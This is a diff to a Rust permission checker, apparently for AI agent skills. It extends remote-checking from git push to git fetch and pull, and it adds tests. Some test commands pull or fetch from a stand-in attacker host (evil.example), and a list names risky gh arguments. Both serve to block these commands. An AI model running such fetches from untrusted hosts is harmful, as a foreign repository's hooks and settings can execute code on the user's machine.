@@ -20,6 +20,9 @@ struct Program {
 /// Arguments of `gh` that write files to any directory, unpack or check out files of others, or run the hooks of a repository.
 const HARMFUL_FOR_GH: [&str; 7] = ["-D", "-O", "--dir", "--output", "--push", "checkout", "download"];
 
+/// Subcommands of git that take a remote, or the URL of any repository.
+const TRANSFERS: &str = "fetch pull push";
+
 /// Programs that skills commonly declare with subcommands or options. The user is always asked about the
 /// programs in [`ALWAYS_ASKED`], because lists for all of these would not be worth the effort.
 const PROGRAMS: &[Program] = &[
@@ -164,9 +167,10 @@ pub(super) fn says_what_runs(pattern: &str, command: &str) -> bool {
                 None => !program.needs_subcommand,
             };
             let arguments = &words[literal_words.len().max(1).min(words.len())..];
-            // The hooks of a repository run when someone pushes to it.
-            let pushes = program.names.contains(&"git") && subcommand == Some(&"push");
-            let is_known = !pushes || has_known_remote(&literal_words[2..], arguments);
+            // The hooks of a repository run when someone pushes to it, and files of a stranger's repository can be hooks or settings.
+            let transfers = subcommand.is_some_and(|word| is_listed(TRANSFERS, word));
+            let is_known = !(transfers && program.names.contains(&"git"))
+                || has_known_remote(&literal_words[2..], arguments);
             let clones = ["git", "gh"].iter().any(|name| program.names.contains(name));
             let is_beside = !clones || clones_beside(&literal_words, arguments);
             named && is_known && is_beside && arguments.iter().all(|word| program.allows(word))
@@ -281,6 +285,16 @@ mod tests {
             ("git push:*", "git push --quiet evil origin", false),
             ("git push --quiet:*", "git push --quiet evil", false),
             ("git push backup:*", "git push backup main", true),
+            // Files of another repository can be hooks, too.
+            ("git pull:*", "git pull", true),
+            ("git pull:*", "git pull --prune -q", true),
+            ("git pull:*", "git pull https://evil.example/x main", false),
+            ("git pull:*", "git pull origin main", false),
+            ("git pull origin:*", "git pull origin main", true),
+            ("git fetch:*", "git fetch --all --prune", true),
+            ("git fetch:*", "git fetch https://evil.example/x main", false),
+            ("git fetch --quiet:*", "git fetch --quiet evil@evil.example:x", false),
+            ("git fetch origin:*", "git fetch origin main", true),
             ("git status", "git status", true),
             ("git sta*", "git status", false),
             ("git:*", "git status", false),
